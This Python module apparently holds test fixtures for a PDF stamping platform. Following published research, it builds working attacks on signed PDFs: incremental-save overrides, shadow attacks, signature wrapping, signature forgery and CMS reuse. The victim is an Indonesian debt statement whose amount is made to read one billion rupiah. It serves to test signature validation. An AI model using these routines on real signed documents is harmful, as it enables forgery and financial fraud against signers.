"""Attacks on a stamped PDF, generated from a freshly stamped dev-key document.

After the published attack classes on PDF signatures:

* Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): incremental saving attacks (ISA:
  an appended revision replaces page content, a page, a font, an XObject or an annotation's
  appearance, or adds an annotation), signature wrapping (SWA: the ``/ByteRange`` moves the
  signed bytes so that new content sits between them) and universal signature forgery (USF:
  emptied ``/Contents``, missing ``/ByteRange``);
* Mainka et al., "Shadow Attacks" (NDSS 2021): the malicious content is already in the signed
  revision, hidden; the update only flips what is shown (hide, replace, hide-and-replace);
* and platform-specific ones: our stamp's CMS copied into another document, one SN signed on
  two documents, another CA's signature carrying our SN in its reason.

Nothing here is committed as binary: every fixture is built by these functions in the test
run. ``letter()`` is the victim document; it is built so that each shadow attack has what it
needs in the signed revision (a covering form field, a value field, an unreferenced second
catalog), the way an attacker who prepares the document for stamping would build it.
"""

from __future__ import annotations

import io
from dataclasses import dataclass

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

HONEST = b"Saya menyatakan berhutang sebesar Rp 10.000 (sepuluh ribu rupiah)."
EVIL = b"Saya menyatakan berhutang sebesar Rp 1.000.000.000 (satu miliar rupiah)."


def _text_stream(pdf: pikepdf.Pdf, lines: list[bytes], y: float = 700) -> pikepdf.Stream:
    body = [b"BT /F1 12 Tf 16 TL 56 %.1f Td" % y]
    body += [b"(" + line.replace(b"(", b"\\(").replace(b")", b"\\)") + b") Tj T*" for line in lines]
    body.append(b"ET")
    return pdf.make_stream(b"\n".join(body))


def _appearance(pdf: pikepdf.Pdf, w: float, h: float, ops: bytes, font) -> pikepdf.Stream:
    ap = pdf.make_stream(ops)
    ap.Type, ap.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    ap.BBox = [0, 0, w, h]
    ap.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    return ap


def letter() -> bytes:
    """A one-page A4 letter with everything the attacks below lever on, as an attacker would submit it.

    - Page content drawn in font F1 (indirect), a letterhead form XObject ``/Kop``.
    - Text field ``nominal`` showing the amount (value and appearance: "Rp 10.000").
    - Text field ``catatan``, empty (a form a viewer lets anyone fill).
    - Text field ``penutup``: an opaque white box whose appearance covers a line of the page
      content that states the evil amount (shadow hide).
    - The page's ``/Annots`` and the ``/AcroForm`` are indirect objects, so a second catalog
      can share them (shadow hide-and-replace adds it before stamping, see ``with_shadow_catalog``).
    """
    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                BaseFont=pikepdf.Name.Helvetica,
                                                Encoding=pikepdf.Name.WinAnsiEncoding))
    page = pdf.add_blank_page(page_size=(595.28, 841.89))
    kop = _appearance(pdf, 595, 60, b"BT /F1 16 Tf 56 20 Td (PT CONTOH SEJAHTERA - SURAT PERNYATAAN) Tj ET", font)
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), XObject=pikepdf.Dictionary(Kop=kop))
    content = b"q 1 0 0 1 0 770 cm /Kop Do Q\n" + _text_stream(pdf, [
        b"Yang bertanda tangan di bawah ini:", HONEST, b"Jumlah (lihat kolom):", b"", b"Catatan:",
    ]).read_bytes() + b"\nBT /F1 12 Tf 56 560 Td (" + EVIL + b") Tj ET\n"
    page.Contents = pdf.make_stream(content)

    def field(name: str, rect, value: bytes | None, ops: bytes):
        w, h = rect[2] - rect[0], rect[3] - rect[1]
        f = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String(name), Type=pikepdf.Name.Annot,
                               Subtype=pikepdf.Name.Widget, Rect=list(rect), F=4, P=page.obj,
                               DA=pikepdf.String("/F1 12 Tf 0 g"),
                               AP=pikepdf.Dictionary(N=_appearance(pdf, w, h, ops, font)))
        if value is not None:
            f.V = pikepdf.String(value)
        return pdf.make_indirect(f)

    nominal = field("nominal", (200, 630, 420, 650), b"Rp 10.000", b"BT /F1 12 Tf 2 5 Td (Rp 10.000) Tj ET")
    catatan = field("catatan", (120, 598, 540, 618), None, b"")
    penutup = field("penutup", (50, 550, 560, 578), b"", b"1 1 1 rg 0 0 510 28 re f")
    page.Annots = pdf.make_indirect(pikepdf.Array([nominal, catatan, penutup]))
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(
        Fields=[nominal, catatan, penutup], DA=pikepdf.String("/F1 12 Tf 0 g"),
        DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, deterministic_id=True)
    return out.getvalue()


def with_shadow_catalog(data: bytes) -> tuple[bytes, int]:
    """Add, unreferenced, a second catalog whose page shows the evil text (shadow hide-and-replace).

    It shares the real catalog's ``/AcroForm`` and the page's ``/Annots`` (indirect objects that
    the stamp will extend), so after a switch of ``/Root`` the stamp is still found and still
    drawn. Returns the document and the object number of the hidden catalog.
    """
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    root = w.root
    real_page = root["/Pages"]["/Kids"][0]
    contents = w.add_object(generic.StreamObject(stream_data=b"BT /F1 12 Tf 56 684 Td (" + EVIL + b") Tj ET"))
    pages = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages"),
                                      pdf_name("/Count"): generic.NumberObject(1)})
    pages_ref = w.add_object(pages)
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"), pdf_name("/Parent"): pages_ref,
        pdf_name("/MediaBox"): real_page["/MediaBox"], pdf_name("/Resources"): real_page.raw_get("/Resources"),
        pdf_name("/Contents"): contents, pdf_name("/Annots"): real_page.raw_get("/Annots"),
    })
    pages[pdf_name("/Kids")] = generic.ArrayObject([w.add_object(page)])
    catalog = generic.DictionaryObject({k: v for k, v in root.items()})
    catalog[pdf_name("/Pages")] = pages_ref
    catalog[pdf_name("/AcroForm")] = root.raw_get("/AcroForm")
    hidden = w.add_object(catalog)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue(), hidden.idnum


# --- helpers -----------------------------------------------------------------------------------


def _update(data: bytes, change) -> bytes:
    """Append one incremental revision made by ``change(writer)``."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    change(w)
    out = io.BytesIO()
    w.write(out)
    result = out.getvalue()
    assert result.startswith(data)
    return result


def _override_stream(w: IncrementalPdfFileWriter, ref: generic.Reference, data: bytes, like=None) -> None:
    """Write a new version of an existing stream object under the same object number."""
    new = generic.StreamObject({k: v for k, v in (like or {}).items() if k not in ("/Length", "/Filter",
                                                                                   "/DecodeParms")},
                               stream_data=data)
    w.objects[(ref.generation, ref.idnum)] = new


def _page(w):
    return w.root["/Pages"]["/Kids"][0]


def _field(w, name: str):
    for ref in w.root["/AcroForm"]["/Fields"]:
        if ref.get_object().get("/T") == name:
            return ref
    raise KeyError(name)


def _new_appearance(w, width: float, height: float, ops: bytes) -> generic.IndirectObject:
    font = _page(w)["/Resources"]["/Font"].raw_get("/F1")
    return w.add_object(generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(0), generic.NumberObject(0),
                                                generic.FloatObject(width), generic.FloatObject(height)]),
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/F1"): font})}),
    }, stream_data=ops))


# --- incremental saving attacks (Mladenov et al.) ----------------------------------------------


def isa_content(stamped: bytes) -> bytes:
    """The page's content stream rewritten in place: same object number, the evil text."""
    def change(w):
        ref = _page(w).raw_get("/Contents").reference
        _override_stream(w, ref, b"BT /F1 12 Tf 56 684 Td (" + EVIL + b") Tj ET")
    return _update(stamped, change)


def isa_page(stamped: bytes) -> bytes:
    """A new page object takes the place of page 1 in the page tree (widgets and all)."""
    def change(w):
        old = _page(w)
        contents = w.add_object(generic.StreamObject(stream_data=b"BT /F1 12 Tf 56 684 Td (" + EVIL + b") Tj ET"))
        new = generic.DictionaryObject({k: old.raw_get(k) for k in old})
        new[pdf_name("/Contents")] = contents
        kids = w.root["/Pages"]["/Kids"]
        kids[0] = w.add_object(new)
        w.update_container(kids)
    return _update(stamped, change)


def isa_font(stamped: bytes) -> bytes:
    """Font F1 rewritten in place: a /Differences encoding swaps glyphs, so "10.000" reads "90.000"."""
    def change(w):
        ref = _page(w)["/Resources"]["/Font"].raw_get("/F1").reference
        font = generic.DictionaryObject({k: v for k, v in ref.get_object().items()})
        font[pdf_name("/BaseFont")] = pdf_name("/Courier")
        font[pdf_name("/Encoding")] = generic.DictionaryObject({
            pdf_name("/BaseEncoding"): pdf_name("/WinAnsiEncoding"),
            pdf_name("/Differences"): generic.ArrayObject([generic.NumberObject(ord("1")), pdf_name("/nine")]),
        })
        w.objects[(ref.generation, ref.idnum)] = font
    return _update(stamped, change)


def isa_xobject(stamped: bytes) -> bytes:
    """The letterhead form XObject rewritten in place with other text."""
    def change(w):
        ref = _page(w)["/Resources"]["/XObject"].raw_get("/Kop").reference
        _override_stream(w, ref, b"BT /F1 16 Tf 56 20 Td (PENGAKUAN HUTANG Rp 1.000.000.000) Tj ET",
                         like=ref.get_object())
    return _update(stamped, change)


def isa_stamp_appearance(stamped: bytes, field_name: str) -> bytes:
    """The stamp widget's own appearance stream rewritten in place (another SN, another value)."""
    def change(w):
        ref = _field(w, field_name).get_object()["/AP"].raw_get("/N").reference
        _override_stream(w, ref, b"0 0 1 rg 0 0 50 50 re f", like=ref.get_object())
    return _update(stamped, change)


def isa_annotation_appearance(stamped: bytes) -> bytes:
    """Field ``nominal``'s appearance stream rewritten in place (its value left alone)."""
    def change(w):
        ref = _field(w, "nominal").get_object()["/AP"].raw_get("/N").reference
        _override_stream(w, ref, b"BT /F1 12 Tf 2 5 Td (Rp 1.000.000.000) Tj ET", like=ref.get_object())
    return _update(stamped, change)


def isa_new_annotation(stamped: bytes) -> bytes:
    """A new FreeText annotation on page 1 (white box with the evil amount over the honest line)."""
    def change(w):
        annot = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (50, 678, 560, 700)]),
            pdf_name("/Contents"): pdf_string(EVIL.decode()),
            pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _new_appearance(
                w, 510, 22, b"1 1 1 rg 0 0 510 22 re f 0 g BT /F1 12 Tf 6 6 Td (" + EVIL + b") Tj ET")}),
        }))
        annots = _page(w)["/Annots"]
        annots.append(annot)
        w.update_container(annots)
    return _update(stamped, change)


def form_filled(stamped: bytes) -> bytes:
    """The empty text field ``catatan`` filled in, with an appearance (what any viewer lets one do)."""
    def change(w):
        f = _field(w, "catatan").get_object()
        f[pdf_name("/V")] = pdf_string("Jumlah yang benar: Rp 1.000.000.000")
        f[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _new_appearance(
            w, 420, 20, b"BT /F1 12 Tf 2 5 Td (Jumlah yang benar: Rp 1.000.000.000) Tj ET")})
        w.update_container(f)
    return _update(stamped, change)


def unsigned_signature_field(stamped: bytes) -> bytes:
    """A new, empty signature field whose appearance is a white box with the evil line (no signature at all)."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    def change(w):
        append_signature_field(w, SigFieldSpec("Saksi", box=(50, 678, 560, 700), on_page=0))
        f = _field(w, "Saksi").get_object()
        f[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _new_appearance(
            w, 510, 22, b"1 1 1 rg 0 0 510 22 re f 0 g BT /F1 12 Tf 6 6 Td (" + EVIL + b") Tj ET")})
        w.update_container(f)
    return _update(stamped, change)


def isa_without_xref(stamped: bytes) -> bytes:
    """ISA variant: the new page content appended as a bare object, with no xref section and no trailer."""
    full = isa_content(stamped)
    return full[:full.index(b"xref", len(stamped))]


# --- shadow attacks (Mainka et al.) ------------------------------------------------------------


def shadow_hide(stamped: bytes) -> bytes:
    """Hide: the white ``penutup`` field is flagged hidden; the evil line under it, signed all along, shows."""
    def change(w):
        f = _field(w, "penutup").get_object()
        f[pdf_name("/F")] = generic.NumberObject(2)  # hidden
        w.update_container(f)
    return _update(stamped, change)


def shadow_replace(stamped: bytes) -> bytes:
    """Replace: field ``nominal`` gets another value and appearance (form filling, as viewers allow it)."""
    def change(w):
        f = _field(w, "nominal").get_object()
        f[pdf_name("/V")] = pdf_string("Rp 1.000.000.000")
        f[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _new_appearance(
            w, 220, 20, b"BT /F1 12 Tf 2 5 Td (Rp 1.000.000.000) Tj ET")})
        w.update_container(f)
    return _update(stamped, change)


def shadow_hide_and_replace(stamped: bytes, hidden_catalog: int) -> bytes:
    """Hide-and-replace: the update writes no content at all; it only points /Root at the hidden catalog."""
    def change(w):
        w._root = generic.IndirectObject(hidden_catalog, 0, w)  # pyHanko offers no public setter for /Root
        w.update_root()  # the hidden catalog written again unchanged, so that the revision is not empty
    return _update(stamped, change)


# --- signature wrapping and universal signature forgery (Mladenov et al.) ----------------------


def _sig_layout(data: bytes, field_name: str) -> tuple[int, int, int, int]:
    reader = PdfFileReader(io.BytesIO(data))
    sig = next(s for s in reader.embedded_regular_signatures if s.field_name == field_name)
    a, b, c, d = (int(v) for v in sig.sig_object["/ByteRange"])
    return a, b, c, d


def signature_wrapping(stamped: bytes, field_name: str) -> bytes:
    """SWA: the signed tail is copied further down and /ByteRange pointed at the copy; an evil revision follows.

    The bytes the signature digests are unchanged (same content, another offset), so the
    digest matches; the original place of the tail, no longer signed, carries the /ByteRange
    that points at the copy, and the update after the copy replaces the page content.
    """
    _, a, b, c = _sig_layout(stamped, field_name)
    tail = stamped[b:b + c]
    old = b"[0 %d %d %d]" % (a, b, c)
    new = b"[0 %d %d %d]" % (a, b + c, c)
    at = tail.index(old)
    pad = tail[at + len(old):].index(b"\n")  # pyHanko pads the ByteRange with spaces up to the newline
    assert pad >= len(new) - len(old), "no room to rewrite /ByteRange"
    moved = tail[:at] + new + tail[at + len(old) + len(new) - len(old):]
    assert len(moved) == len(tail)
    wrapped = stamped[:b] + moved + tail  # parses as the stamped file: the copy ends with the same trailer
    return isa_content(wrapped)


def usf_contents_emptied(stamped: bytes, field_name: str) -> bytes:
    """USF: the signature's /Contents overwritten with zeros (no CMS at all)."""
    _, a, b, _ = _sig_layout(stamped, field_name)
    return stamped[:a] + b"<" + b"0" * (b - a - 2) + b">" + stamped[b:]


def usf_byterange_removed(stamped: bytes, field_name: str) -> bytes:
    """USF: the /ByteRange key renamed away (same length), so a validator has no range to hash."""
    _, a, b, c = _sig_layout(stamped, field_name)
    at = stamped.index(b"/ByteRange [0 %d %d %d]" % (a, b, c), b)
    return stamped[:at] + b"/ByteRangX" + stamped[at + len(b"/ByteRange"):]


# --- platform attacks --------------------------------------------------------------------------


@dataclass(frozen=True)
class CmsOf:
    """A stamping engine whose "signature" is a CMS blob lifted from another stamped document."""

    cms: bytes

    def __call__(self, _document_digest: bytes) -> bytes:
        return self.cms


def stamp_cms(stamped: bytes, field_name: str) -> bytes:
    reader = PdfFileReader(io.BytesIO(stamped))
    sig = next(s for s in reader.embedded_regular_signatures if s.field_name == field_name)
    return sig.pkcs7_content
